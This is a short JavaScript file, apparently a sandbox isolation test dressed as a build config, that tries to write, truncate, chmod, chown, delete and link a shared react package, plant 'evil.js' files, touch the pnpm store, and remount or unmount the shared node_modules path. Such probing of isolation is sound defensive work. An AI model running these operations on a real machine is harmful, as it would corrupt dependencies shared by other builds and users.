// Changes the packages that all builds of the machine share, by every way that leads to them.
// outcome: passed
const { attempt, attemptCommand, canary, fs, path } = require("./loot.js");

const victim = "react/index.js";
const ways = ["node_modules", fs.realpathSync("node_modules"), canary.modules, `/proc/self/root${canary.modules}`,
  `/proc/1/root${canary.modules}`, `/proc/self/cwd/node_modules`];
for (const way of ways) {
  const file = path.join(way, victim);
  attempt(`write ${file}`, () => fs.appendFileSync(file, "\n// was here"));
  attempt(`open ${file}`, () => fs.closeSync(fs.openSync(file, "r+")));
  attempt(`truncate ${file}`, () => fs.truncateSync(file));
  attempt(`chmod ${file}`, () => fs.chmodSync(file, 0o777));
  attempt(`chown ${file}`, () => fs.chownSync(file, 0, 0));
  attempt(`times ${file}`, () => fs.utimesSync(file, 1, 1));
  attempt(`unlink ${file}`, () => fs.unlinkSync(file));
  attempt(`rename ${file}`, () => fs.renameSync(file, `${file}.old`));
  attempt(`link ${file}`, () => fs.linkSync(file, path.join(process.cwd(), "linked.js")));
  attempt(`link in /tmp ${file}`, () => fs.linkSync(file, "/tmp/linked.js"));
  attempt(`make ${way}`, () => fs.writeFileSync(path.join(way, "evil.js"), ""));
  attempt(`cache ${way}`, () => fs.mkdirSync(path.join(way, ".vite-temp")));
}
attempt("store", () => fs.writeFileSync(path.join(canary.pnpmStore, "evil"), ""));
attempt("store", () => fs.readdirSync(canary.pnpmStore));
attemptCommand("remount", "mount", "-o", "remount,rw,bind", canary.modules);
attemptCommand("overmount", "mount", "-t", "tmpfs", "none", canary.modules);
attemptCommand("unmount", "umount", "-l", canary.modules);
attemptCommand("immutable", "chattr", "+i", path.join(canary.modules, victim));

module.exports = { content: ["./src/App.tsx"] };
